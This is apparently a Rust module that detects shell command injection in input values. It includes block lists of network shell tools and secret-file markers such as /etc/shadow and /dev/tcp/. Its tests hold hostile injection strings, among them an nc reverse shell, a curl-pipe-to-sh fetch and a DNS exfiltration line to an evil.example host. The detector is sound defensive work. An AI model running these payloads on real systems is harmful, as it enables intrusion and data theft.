//! Does a value end what a shell was told, and begin a command of its own?
//!
//! A shell goes on with another command behind `;`, `|`, `&`, a line end, a backtick and `$(`. People write all of these,
//! and many commands are words of English; so what follows has to be a known command *and* to be given what commands
//! are given: an option, a path, an address, or nothing at all where that is of use to an attacker.
//!
//! 1. Where another command may begin is found; what stands in a code span of Markdown is text about shells.
//! 2. The word there is read as a shell reads it: `c'a't`, `c\at`, `/bin/c?t` and `cat${IFS}` are `cat`.
//! 3. What follows decides.
//!
//! Not seen: a command hidden in a text of three lines and more, unless it is after what only attackers ask for.

use memchr::{memchr, memmem};

use crate::bytes::Presence;

/// Without one of these bytes no value brings a command.
pub const COMMAND_GAPS: Presence = Presence::all_of(b";|&\n`$<>");

/// Commands that are asked for alone.
const ALONE: &[&str] = &[
    "arp",
    "dir",
    "dmesg",
    "env",
    "getent",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "lastlog",
    "ls",
    "lsof",
    "lsb_release",
    "netstat",
    "printenv",
    "ps",
    "pwd",
    "reboot",
    "ss",
    "systeminfo",
    "tasklist",
    "uname",
    "ver",
    "whoami",
];

/// Words of English that are commands, too: asked for alone, and with next to nothing before them.
const ALONE_WORDS: &[&str] =
    &["date", "df", "du", "free", "history", "last", "mount", "set", "top", "uptime", "w", "who"];

/// Commands that read or write files, of which they are told the path.
const OF_FILES: &[&str] = &[
    "awk", "base64", "cat", "cd", "chmod", "chown", "copy", "cp", "cut", "dd", "del", "find", "gawk", "grep",
    "egrep", "fgrep", "gunzip", "gzip", "head", "hexdump", "less", "ln", "mkdir", "more", "mv", "nl", "od",
    "rev", "rm", "sed", "sort", "strings", "tac", "tail", "tar", "tee", "touch", "type", "uniq", "unzip",
    "wc", "xargs", "xxd", "zip",
];

/// Commands that talk to other machines.
const OF_NETS: &[&str] = &[
    "nmap",
    "tcpdump",
    "bitsadmin",
    "certutil",
    "curl",
    "dig",
    "fetch",
    "ftp",
    "host",
    "lwp-download",
    "nc",
    "nc.traditional",
    "ncat",
    "net",
    "netcat",
    "nslookup",
    "ping",
    "ping6",
    "rsync",
    "scp",
    "sftp",
    "socat",
    "ssh",
    "telnet",
    "tftp",
    "traceroute",
    "wget",
];

/// Commands that run others, or code.
const OF_CODE: &[&str] = &[
    "apk",
    "apt",
    "apt-get",
    "aws",
    "expr",
    "git",
    "npm",
    "pip",
    "pip3",
    "yum",
    "df",
    "du",
    "ash",
    "bash",
    "busybox",
    "cmd",
    "cmd.exe",
    "command",
    "crontab",
    "csh",
    "cscript",
    "dash",
    "docker",
    "echo",
    "ed",
    "env",
    "eval",
    "exec",
    "expect",
    "export",
    "gcc",
    "gdb",
    "iptables",
    "java",
    "kill",
    "killall",
    "ksh",
    "kubectl",
    "lua",
    "mail",
    "make",
    "mount",
    "mshta",
    "mysql",
    "nano",
    "node",
    "nodejs",
    "nohup",
    "openssl",
    "passwd",
    "perl",
    "php",
    "pkill",
    "powershell",
    "powershell.exe",
    "printf",
    "psql",
    "pwsh",
    "python",
    "python2",
    "python3",
    "redis-cli",
    "reg",
    "regsvr32",
    "ruby",
    "rundll32",
    "screen",
    "script",
    "sendmail",
    "service",
    "sh",
    "sleep",
    "sqlite3",
    "start",
    "strace",
    "su",
    "sudo",
    "systemctl",
    "tcsh",
    "timeout",
    "tmux",
    "useradd",
    "vi",
    "vim",
    "wmic",
    "wscript",
    "xterm",
    "zsh",
];

/// Verbs of commands that take one.
const VERBS: &[&str] = &[
    "add",
    "aux",
    "clone",
    "config",
    "exec",
    "install",
    "log",
    "get",
    "passwd",
    "ps",
    "run",
    "stop",
    "user",
    "users",
    "view",
    "localgroup",
    "start",
];

/// What only attackers hand to a command, wherever it stands.
const SPOILS: &[&[u8]] =
    &[b"/etc/passwd", b"/etc/shadow", b"/dev/tcp/", b"/dev/udp/", b"-e /bin/", b"base64 -d|", b"base64 -d |"];

/// So much around a place is looked at to judge it, in bytes: what is judged at each of many places has to be short.
const AROUND: usize = 400;

/// What may stand where one command ends.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Gap {
    Semicolon,
    Pipe,
    /// `||`, `&&`
    Twice,
    Ampersand,
    Line,
    /// `$(`, `<(`, `>(`
    Substitution,
    Backtick,
}

/// Whether a value brings a command. Takes time linear in its length, and allocates nothing.
#[must_use]
pub fn detect_command(value: &[u8]) -> bool {
    let is_text = value.iter().filter(|byte| **byte == b'\n').count() >= 3;
    let spans = memchr(b'`', value).is_some();
    let (mut at, mut in_span) = (0, false);
    while let Some(byte) = value.get(at).copied() {
        let next = value.get(at + 1).copied();
        let (gap, len) = match (byte, next) {
            (b'`', _) if spans => {
                let run =
                    value.get(at..).unwrap_or_default().iter().take_while(|byte| **byte == b'`').count();
                if in_span {
                    in_span = false;
                    at += run;
                    continue;
                }
                let closes = memchr(b'`', first(value.get(at + 1..).unwrap_or_default())).is_some();
                if run == 1 && closes && !is_span(value, at) {
                    (Gap::Backtick, 1)
                } else {
                    in_span = memchr(b'`', value.get(at + run..).unwrap_or_default()).is_some();
                    at += run;
                    continue;
                }
            }
            (b';', _) => (Gap::Semicolon, 1),
            (b'|', Some(b'|')) | (b'&', Some(b'&')) => (Gap::Twice, 2),
            (b'|', _) => (Gap::Pipe, 1),
            (b'&', _) => (Gap::Ampersand, 1),
            (b'\n', _) => (Gap::Line, 1),
            (b'$' | b'<' | b'>', Some(b'(')) => (Gap::Substitution, 2),
            _ => {
                at += 1;
                continue;
            }
        };
        if !in_span && begins_command(value, at, at + len, gap, is_text) {
            return true;
        }
        at += len;
    }
    false
}

/// Whether a backtick opens a code span of Markdown: text stands around it, with blanks between.
fn is_span(value: &[u8], open: usize) -> bool {
    let Some(len) = memchr(b'`', value.get(open + 1..).unwrap_or_default()) else { return false };
    let before = last(value.get(..open).unwrap_or_default());
    let behind = first(value.get(open + len + 2..).unwrap_or_default());
    let opens = before
        .last()
        .is_none_or(|byte| matches!(byte, b' ' | b'\n' | b'\t' | b'(' | b'[' | b'"' | b'*' | b'_' | b'>'));
    let closes = behind.first().is_none_or(|byte| !byte.is_ascii_alphanumeric() && *byte != b'/')
        && !(behind.first() == Some(&b'.') && behind.get(1).is_some_and(u8::is_ascii_alphanumeric));
    let last_word = before.trim_ascii().rsplit(|byte| *byte == b' ').next().unwrap_or_default();
    // With next to nothing around it, it is no text about shells: `id`, or a name and `id`.
    let inner = first(value.get(open + 1..open + 1 + len).unwrap_or_default());
    let options = memmem::find_iter(inner, b" -").count();
    let is_spoil = SPOILS.iter().any(|spoil| memmem::find(inner, spoil).is_some());
    let has_text = words(behind) > 0 || words(before) > 2 || (options > 1 && !is_spoil);
    opens && closes && has_text && !is_command(last_word)
}

fn first(text: &[u8]) -> &[u8] {
    text.get(..AROUND).unwrap_or(text)
}

fn last(text: &[u8]) -> &[u8] {
    text.get(text.len().saturating_sub(AROUND)..).unwrap_or(text)
}

fn words(text: &[u8]) -> usize {
    text.split(|byte| byte.is_ascii_whitespace())
        .filter(|word| word.iter().any(u8::is_ascii_alphabetic))
        .count()
}

fn is_command(word: &[u8]) -> bool {
    str::from_utf8(word)
        .is_ok_and(|word| [ALONE, OF_NETS, &["cat", "echo", "eval"]].iter().any(|list| list.contains(&word)))
}

fn begins_command(value: &[u8], gap_at: usize, behind: usize, gap: Gap, is_text: bool) -> bool {
    let before = last(value.get(..gap_at).unwrap_or_default());
    let mut at = behind;
    skip_blanks(value, &mut at);
    if let Some(b'(' | b'{' | b'!' | b'@') = value.get(at) {
        at += 1;
        skip_blanks(value, &mut at);
    }
    if at > behind + AROUND {
        return false;
    }
    let word = Word::read(value, at);
    let rest = first(value.get(word.end..).unwrap_or_default());
    let is_rooted = value.get(at) == Some(&b'/');
    let ends = rest.first().is_none_or(|byte| {
        byte.is_ascii_whitespace() || matches!(byte, b'$' | b';' | b'|' | b'&' | b'\'' | b'"')
    });
    if word.is_quoted_code || (is_rooted && word.has_wildcards && ends) {
        return !is_text;
    }
    let Some(name) = word.name() else { return false };
    let known = Known::of(name);
    let is_word = ALONE_WORDS.contains(&name);
    if is_word && matches!(gap, Gap::Semicolon | Gap::Pipe) {
        let is_last = rest.iter().all(|byte| !byte.is_ascii_alphanumeric());
        if is_last
            && !rest.starts_with(b")")
            && words(before) <= 1
            && !before.contains(&b';')
            && !before.contains(&b'|')
        {
            return true;
        }
    }
    let is_known = known.is_alone || known.is_tool() || (word.is_path && word.is_of_bin);
    if !is_known {
        return false;
    }
    let line = rest.split(|byte| *byte == b'\n').next().unwrap_or_default();
    if is_text {
        return SPOILS.iter().any(|spoil| memmem::find(line, spoil).is_some());
    }
    let argument = Argument::of(rest, &known);
    if gap == Gap::Twice && is_command_line(before) {
        // A line for a shell as a whole: cd app && npm install
        return SPOILS.iter().any(|spoil| memmem::find(line, spoil).is_some());
    }
    match gap {
        Gap::Substitution => {
            matches!(
                rest.first(),
                None | Some(b' ' | b'\t' | b')' | b'$' | b'<' | b'|' | b';' | b',' | b'{' | b'\n' | 0x0b)
            )
        }
        Gap::Backtick => !matches!(rest.first(), Some(byte) if byte.is_ascii_alphanumeric()),
        Gap::Line => {
            let is_first = words(before) <= 1 && !before.contains(&b'=');
            is_first && (argument == Argument::Shaped || (known.is_alone && argument == Argument::None))
        }
        Gap::Ampersand | Gap::Twice | Gap::Semicolon | Gap::Pipe => match argument {
            Argument::Shaped => true,
            Argument::Text => false,
            Argument::None => {
                (known.is_alone || word.is_of_bin || (gap == Gap::Pipe && known.is_shell))
                    && stands_alone(value, before, name, rest, gap)
            }
        },
    }
}

/// Whether a text begins with a command.
fn is_command_line(text: &[u8]) -> bool {
    let word = text.trim_ascii_start().split(|byte| *byte == b' ').next().unwrap_or_default();
    str::from_utf8(word).is_ok_and(|word| Known::of(word).is_tool())
}

/// Whether a command without arguments is one, and no member of a list, no cell of a table and no name in a program.
fn stands_alone(value: &[u8], before: &[u8], name: &str, rest: &[u8], gap: Gap) -> bool {
    let value = first(value);
    let is_list_line =
        value.split(|byte| *byte == b'\n').any(|line| line.iter().filter(|byte| **byte == b'|').count() > 2);
    if gap == Gap::Pipe && (is_list_line || rest.starts_with(b")")) {
        return false;
    }
    let short =
        matches!(name, "id" | "env" | "ps" | "ss" | "dir" | "ls" | "ver" | "arp" | "hostname" | "pwd");
    let is_last = rest.iter().all(|byte| !byte.is_ascii_alphanumeric());
    match gap {
        _ if !short => true,
        // CSV and tables: name;id;price, | name | id |
        Gap::Semicolon | Gap::Pipe => {
            let sign = if gap == Gap::Pipe { b'|' } else { b';' };
            let signs = value.iter().filter(|byte| **byte == sign).count();
            let is_list = value.iter().all(|byte| {
                byte.is_ascii_alphanumeric() || matches!(byte, b' ' | b'_' | b'-' | 0x80..) || *byte == sign
            });
            // A list of names goes on behind it; a command is the last thing, or is begun at once.
            !(is_list && signs > 1 && !before.trim_ascii().is_empty())
        }
        // `a || id` in a program; "name & id" in a text.
        Gap::Twice => is_last && !before.iter().any(|byte| matches!(byte, b'=' | b'(' | b'{')),
        Gap::Ampersand => is_last && !before.iter().any(u8::is_ascii_alphabetic),
        _ => true,
    }
}

/// What is known of a command by its name.
#[derive(Clone, Copy)]
struct Known {
    is_alone: bool,
    is_of_files: bool,
    is_of_nets: bool,
    is_of_code: bool,
    is_shell: bool,
    is_sleep: bool,
}

impl Known {
    fn of(name: &str) -> Self {
        let is_in = |list: &[&str]| list.contains(&name);
        Self {
            is_alone: is_in(ALONE),
            is_of_files: is_in(OF_FILES),
            is_of_nets: is_in(OF_NETS),
            is_of_code: is_in(OF_CODE),
            is_shell: is_in(&[
                "sh", "bash", "zsh", "ksh", "dash", "python", "python3", "perl", "php", "ruby",
            ]),
            is_sleep: is_in(&["sleep", "timeout", "kill"]),
        }
    }

    fn is_tool(&self) -> bool {
        self.is_of_files || self.is_of_nets || self.is_of_code
    }
}

/// What follows a command.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Argument {
    /// Nothing: the value ends, or another command begins.
    None,
    /// What commands are given.
    Shaped,
    /// Text, or what could be text.
    Text,
}

impl Argument {
    fn of(rest: &[u8], known: &Known) -> Self {
        let mut at = 0;
        skip_blanks(rest, &mut at);
        let text = rest.get(at..).unwrap_or_default();
        let end = text
            .iter()
            .position(|byte| byte.is_ascii_whitespace() || matches!(byte, b';' | b'|' | b'&'))
            .unwrap_or(text.len());
        // What separates words instead of a blank ends one, too.
        let end =
            memmem::find(text, b"$IFS").or(memmem::find(text, b"${IFS")).map_or(end, |ifs| ifs.min(end));
        let (argument, behind) = text.split_at(end);
        let second = text.get(1).copied();
        let ends_here = {
            let behind = behind.trim_ascii_start();
            behind.is_empty()
                || matches!(behind.first(), Some(b';' | b'|' | b'&' | b'#' | b')' | b'`' | b'\'' | b'"'))
        };
        match text.first() {
            None | Some(b';' | b'|' | b'&' | b'\n' | b'\r' | b'#' | b'`' | 0) => return Self::None,
            Some(b'\'' | b'"' | b')') if at == 0 => {
                // A quote that closes, with nothing or a comment behind it.
                let is_over = text.iter().skip(1).all(|byte| !byte.is_ascii_alphanumeric());
                return if is_over { Self::None } else { Self::Text };
            }
            Some(_) if at == 0 && !matches!(text.first(), Some(b'<' | b'>' | b'$' | b'{' | b'/')) => {
                return Self::Text;
            }
            _ => {}
        }
        let is_shaped = match text[0] {
            b'-' => {
                second.is_some_and(|byte| byte.is_ascii_alphanumeric() || byte == b'-') && argument.len() < 40
            }
            b'/' | b'~' => second.is_none_or(|byte| {
                byte.is_ascii_alphanumeric()
                    || matches!(
                        byte,
                        b'?' | b'*'
                            | b'.'
                            | b'/'
                            | b';'
                            | b'|'
                            | b'&'
                            | b'\''
                            | b'"'
                            | b'\\'
                            | b'$'
                            | b'['
                            | b'{'
                    )
            }),
            b'.' => matches!(second, None | Some(b'/' | b'.')),
            b'$' => second.is_some_and(|byte| {
                matches!(byte, b'(' | b'{' | b'@' | b'\'') || byte.is_ascii_alphanumeric()
            }),
            b'<' | b'>' => second.is_some_and(|byte| {
                matches!(byte, b'/' | b' ' | b'&' | b'<' | b'(' | b'>') || byte.is_ascii_alphanumeric()
            }),
            b'*' | b'?' | b'@' => known.is_of_files && ends_here,
            b'\'' | b'"' => known.is_of_code || known.is_of_files,
            b'`' | b'{' | b'\\' => true,
            _ => false,
        };
        let has = |byte: u8| memchr(byte, argument).is_some();
        let is_path = argument.contains(&b'/') && argument.len() > 2 && !argument.ends_with(b"/");
        let is_drive = matches!(argument, [letter, b':', ..] if letter.is_ascii_alphabetic());
        let is_digits =
            !argument.is_empty() && argument.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.');
        let is_verb = str::from_utf8(argument).is_ok_and(|verb| VERBS.contains(&verb));
        let is_file = has(b'.')
            && !argument.ends_with(b".")
            && argument
                .iter()
                .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'*'));
        let holds = is_shaped
            || (is_drive && (known.is_of_files || known.is_alone || known.is_of_code))
            || (known.is_of_nets && (has(b'.') || has(b':') || is_path) && !argument.ends_with(b"."))
            || (known.is_of_files && (is_file || is_path) && ends_here)
            || (known.is_of_files && argument == b"/" && behind.trim_ascii_start().starts_with(b"-"))
            || (known.is_of_files && argument.starts_with(b"%") && argument.len() > 3)
            || (known.is_of_code && is_command(argument))
            || (memmem::find(behind, b" /").is_some() && behind.trim_ascii_start().starts_with(b">"))
            || (known.is_tool() && SPOILS.iter().any(|spoil| memmem::find(text, spoil).is_some()))
            || (known.is_of_files
                && memmem::find(behind, b" -").is_some()
                && behind.iter().filter(|byte| **byte == b'/').count() > 1)
            || (known.is_of_code
                && argument.get(1..).is_some_and(|rest| rest.contains(&b'='))
                && argument[0].is_ascii_alphabetic())
            || ((known.is_of_code || known.is_of_nets || known.is_alone) && is_verb)
            || (known.is_sleep && is_digits && ends_here)
            || (known.is_of_code && behind.trim_ascii_start().starts_with(b"-"))
            || (known.is_of_files && is_reader_of(behind, argument));
        if holds { Self::Shaped } else { Self::Text }
    }
}

/// `grep root /etc/passwd`: a word, and then a path.
fn is_reader_of(behind: &[u8], argument: &[u8]) -> bool {
    !argument.is_empty()
        && matches!(behind.trim_ascii_start(), [b'/', letter, ..] if letter.is_ascii_alphabetic())
}

fn skip_blanks(value: &[u8], at: &mut usize) {
    let begin = *at;
    while *at < begin + AROUND {
        let rest = value.get(*at..).unwrap_or_default();
        *at += match rest {
            [b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c, ..] => 1,
            _ if rest.starts_with(b"${IFS") => memchr(b'}', first(rest)).map_or(5, |end| end + 1),
            _ if rest.starts_with(b"$IFS$9") => 6,
            _ if rest.starts_with(b"$IFS") => 4,
            _ => return,
        };
    }
}

/// A word as a shell reads it.
struct Word {
    name: [u8; Word::MAX],
    len: usize,
    /// Where it ends in the value.
    end: usize,
    is_path: bool,
    is_of_bin: bool,
    has_wildcards: bool,
    /// `$'\x69\x64'`
    is_quoted_code: bool,
}

impl Word {
    /// The longest name that is known is shorter.
    const MAX: usize = 24;

    fn read(value: &[u8], begin: usize) -> Self {
        let mut word = Self {
            name: [0; Self::MAX],
            len: 0,
            end: begin,
            is_path: false,
            is_of_bin: false,
            has_wildcards: false,
            is_quoted_code: value.get(begin..).is_some_and(|rest| rest.starts_with(b"$'\\")),
        };
        let mut is_whole = true;
        while let Some(byte) = value.get(word.end).copied().filter(|_| word.end < begin + AROUND) {
            let next = value.get(word.end + 1).copied();
            match byte {
                // What a shell leaves out. A quote with nothing but an end behind it is none of the word.
                b'\'' | b'"' | b'\\' | b'^'
                    if next.is_some_and(|next| {
                        next.is_ascii_alphanumeric()
                            || matches!(next, b'\'' | b'"' | b'\\' | b'/' | b'?' | b'*')
                    }) => {}
                b'\'' | b'"'
                    if word.len > 0
                        && value.get(begin..word.end).is_some_and(|read| read.contains(&byte)) => {}
                // What comes of these is nothing.
                b'$' if value.get(word.end + 1..).is_some_and(|rest| rest.starts_with(b"()")) => {
                    word.end += 2
                }
                b'`' if next == Some(b'`') && word.len > 0 => word.end += 1,
                b'$' if matches!(next, Some(b'@' | b'*' | b'1'..=b'8')) => word.end += 1,
                b'/' => {
                    word.is_of_bin = &word.name[..word.len] == b"bin" || &word.name[..word.len] == b"sbin";
                    word.is_path = true;
                    word.len = 0;
                    is_whole = true;
                }
                b'?' | b'*' | b'[' | b']' => {
                    word.has_wildcards = true;
                    is_whole = false;
                }
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_' | b'-' | b'.' => {
                    match word.name.get_mut(word.len) {
                        Some(place) => *place = byte.to_ascii_lowercase(),
                        None => is_whole = false,
                    }
                    word.len = (word.len + 1).min(Self::MAX);
                }
                _ => break,
            }
            word.end += 1;
        }
        if !is_whole {
            word.len = 0;
        }
        word
    }

    fn name(&self) -> Option<&str> {
        str::from_utf8(self.name.get(..self.len)?).ok().filter(|name| !name.is_empty())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tests::soon;

    #[test]
    fn commands() {
        for value in [
            "; ls -la",
            "| id",
            "|| id",
            "x`sleep 5`",
            "`id`",
            "x$(sleep 5)",
            ";c'a't /etc/passwd",
            ";c\\at /et\\c/passwd",
            "|${IFS}ls${IFS}-la",
            ";/???/??t /???/p??s??",
            "a.txt|/usr/bin/id",
            "x&sleep 5&",
            "& dir C:\\",
            "& cmd /c whoami",
            "\nid",
            ";export X=id;$X",
            ";grep root /etc/passwd",
            ";docker run -v /:/mnt alpine",
            ";tar cf /dev/null x --checkpoint=1",
            "127.0.0.1 | nc 10.9.8.7 4444 -e /bin/sh",
            ";nslookup `whoami`.evil.example",
            "; curl http://10.9.8.7/x | sh",
        ] {
            assert!(detect_command(value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn what_people_write() {
        for value in [
            "mat & drikke",
            "Ben & Jerry's; more or less",
            "navn;id;pris",
            "| Sak | id | Frist |",
            "Jäs i 45 min; find us at the corner",
            "`whoami` gir root, `id -u` gir 0",
            "How do I find large files? I tried `du -sh * | sort -h | tail -20` but it skips hidden ones.",
            "cat /etc/os-release says Debian 12, uname -a says 6.1",
            "load > 4 for 5m; see `top`",
            "(select|from|id)",
            "I did; sleep 8 hours is enough",
            "const user = a || id;",
            "Mr. Or & Mrs. And",
            "eggs; cat food; echo chamber",
            "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101",
        ] {
            assert!(!detect_command(value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn it_takes_linear_time() {
        for piece in ["`", ";", "|a", "$(", "; ", "${IFS", "; cat ", ";c'"] {
            let value = piece.repeat(200_000 / piece.len());
            soon(piece, || detect_command(value.as_bytes()));
        }
    }
}
